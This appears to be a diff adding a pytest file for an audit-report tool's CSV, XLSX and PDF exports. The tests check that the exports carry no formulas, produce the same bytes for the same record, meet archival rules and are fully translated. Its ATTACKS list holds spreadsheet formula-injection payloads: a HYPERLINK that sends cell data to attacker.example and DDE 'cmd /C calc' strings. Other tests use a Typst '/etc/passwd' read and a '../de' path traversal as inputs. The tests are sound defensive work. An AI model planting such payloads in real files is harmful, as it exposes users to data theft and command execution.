@@ -1,0 +1,169 @@
+"""CSV, XLSX and PDF: what they hold, that they run nothing, and that the same record is the same bytes."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import zipfile
+import zlib
+from pathlib import Path
+from typing import Any
+
+import pytest
+from audit_world import World
+from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from governance.audit import MadeReport
+from governance.audit.forms import FORMS, form
+from governance.audit.forms.flat import inert
+from governance.audit.languages import LANGUAGES, words
+from governance.cli import cli
+from governance.errors import AuditError
+
+ATTACKS = (
+    '=HYPERLINK("http://attacker.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+)
+
+
+def made(name: str, record: dict[str, Any], language: str = "en", bundle: bytes | None = None) -> bytes:
+    return form(name)(record, words(language), bundle)
+
+
+@pytest.fixture
+def record(art30: MadeReport) -> dict[str, Any]:
+    said: dict[str, Any] = json.loads(art30.json.read_bytes())
+    return said
+
+
+@pytest.fixture
+def attacked(record: dict[str, Any]) -> dict[str, Any]:
+    for number, attack in enumerate(ATTACKS):
+        row = record["rows"][number % len(record["rows"])]
+        row["title"] = attack
+        row["cells"]["purpose"]["note"] = attack
+        record["exceptions"][number]["text"] = attack
+        record["columns"][number]["heading"] = attack
+    return record
+
+
+def test_csv_has_every_cell_with_how_it_is_known(record: dict[str, Any]) -> None:
+    lines = list(csv.reader(io.StringIO(made("csv", record).decode("utf-8-sig"))))
+    assert len(lines) == 1 + len(record["rows"]) and len({len(line) for line in lines}) == 1
+    assert len(lines[0]) == 2 + 3 * len(record["columns"])
+    for line, row in zip(lines[1:], record["rows"], strict=True):
+        assert line[1] == row["title"]
+        for place, column in enumerate(record["columns"]):
+            cell = row["cells"][column["key"]]
+            _, basis, entries = line[2 + 3 * place : 5 + 3 * place]
+            assert (basis, entries) == (cell["basis"], " ".join(map(str, cell["cites"])))
+
+
+def test_xlsx_has_rows_exceptions_and_unknowns(record: dict[str, Any]) -> None:
+    """Read by openpyxl, which is not what writes it."""
+    book = load_workbook(io.BytesIO(made("xlsx", record)))
+    assert book.sheetnames == ["Summary", "Exceptions", "Unknowns", "Rows", "Cannot prove"]
+    assert book["Rows"].max_row == 1 + len(record["rows"])
+    assert book["Exceptions"].max_row == 1 + len(record["exceptions"])
+    assert book["Unknowns"].max_row == 1 + len(record["unknowns"])
+    assert any(record["as_of"]["root"] == cell.value for row in book["Summary"] for cell in row)
+
+
+def test_no_form_holds_a_formula(attacked: dict[str, Any]) -> None:
+    text = made("csv", attacked).decode("utf-8-sig")
+    for line in csv.reader(io.StringIO(text)):
+        for value in line:
+            assert not value.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b")), value
+    data = made("xlsx", attacked)
+    for sheet in load_workbook(io.BytesIO(data)):
+        for row in sheet:
+            assert all(cell.data_type in ("s", "n") and cell.hyperlink is None for cell in row)
+            assert not any(str(cell.value or "").lstrip().startswith(("=", "+", "@")) for cell in row)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert not any(
+            b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in archive.namelist()
+        )
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(st.characters(codec="utf-8"), max_size=20))
+def test_whatever_the_text_no_cell_begins_a_formula(text: str) -> None:
+    shown = inert(text)
+    if shown != text and not shown.startswith("'"):
+        assert len(shown) == len(text)
+    begins = shown.lstrip(" \u00a0\ufeff\u200b")[:1]
+    assert begins not in tuple("=@\t\r") and (begins not in tuple("+-") or float(shown.strip()) is not None)
+
+
+def test_the_same_record_is_the_same_bytes(record: dict[str, Any]) -> None:
+    backwards = dict(reversed(record.items()))
+    for name in sorted(FORMS):
+        assert made(name, record) == made(name, backwards), name
+
+
+def test_pdf_is_archival_and_carries_what_proves_it(art30: MadeReport, record: dict[str, Any]) -> None:
+    assert art30.bundle is not None
+    packed = art30.bundle.read_bytes()
+    document = made("pdf", record, "de", packed)
+    assert document.startswith(b"%PDF-1.7") and b"/Lang" in document
+    streams = []
+    for found in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", document, re.S):
+        try:
+            streams.append(zlib.decompress(found[1]))
+        except zlib.error:
+            streams.append(found[1])
+    assert art30.json.read_bytes() in streams and packed in streams
+    assert record["as_of"]["checkpoint"].encode() in streams
+    metadata = next(s for s in streams if b"pdfaid" in s)
+    assert (
+        b"<pdfaid:part>3</pdfaid:part>" in metadata
+        and b"<pdfaid:conformance>A</pdfaid:conformance>" in metadata
+    )
+    assert b"Verzeichnis von Verarbeitungst" in metadata
+
+
+def test_pdf_takes_no_text_for_markup(attacked: dict[str, Any]) -> None:
+    attack = '#read("/etc/passwd") #panic("x") $x$ = heading <b>&amp;</b> \\ `raw` @ref'
+    attacked["rows"][0]["title"] = attacked["exceptions"][0]["text"] = attack
+    attacked["scope"]["organisation"]["value"] = attacked["report"]["law"] = attack
+    attacked["statements"][0] = attack
+    attacked["rows"][1]["title"] = "株式会社 \U0001f600 \u0627\u0644 Ελλάδα Česko Київ"
+    assert made("pdf", attacked).startswith(b"%PDF-")
+
+
+@pytest.mark.parametrize("language", sorted(set(LANGUAGES) - {"en"}))
+def test_every_title_heading_and_column_is_translated(
+    language: str, art30: MadeReport, accounting: MadeReport
+) -> None:
+    said = words(language)
+    for report in (art30, accounting):
+        names = [report.record["report"]["title"], *(c["heading"] for c in report.record["columns"])]
+        assert [name for name in names if name not in said.messages] == []
+    files = {name: words(name).messages.keys() for name in LANGUAGES if name != "en"}
+    assert len({frozenset(keys) for keys in files.values()}) == 1
+    assert words("en").messages.keys() <= said.messages.keys()
+    with pytest.raises(AuditError) as refused:
+        words("../de")
+    assert refused.value.code == "GOV-804"
+
+
+def test_the_command_writes_the_forms(world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from governance.pipeline import workspace
+
+    monkeypatch.setattr(workspace.Workspace, "open", lambda _: world)
+    options = ["--home", str(tmp_path), "--form", "csv", "--form", "xlsx", "--language", "fr", "--json"]
+    done = CliRunner().invoke(cli, ["report", "make", "hipaa-528", "--out", str(tmp_path), *options])
+    assert done.exit_code == 0, done.output
+    names = [Path(path).name for path in json.loads(done.output)["forms"]]
+    assert names == ["hipaa-528.fr.csv", "hipaa-528.fr.xlsx"]
+    assert (tmp_path / names[0]).read_bytes().startswith("\ufeffN°,".encode())
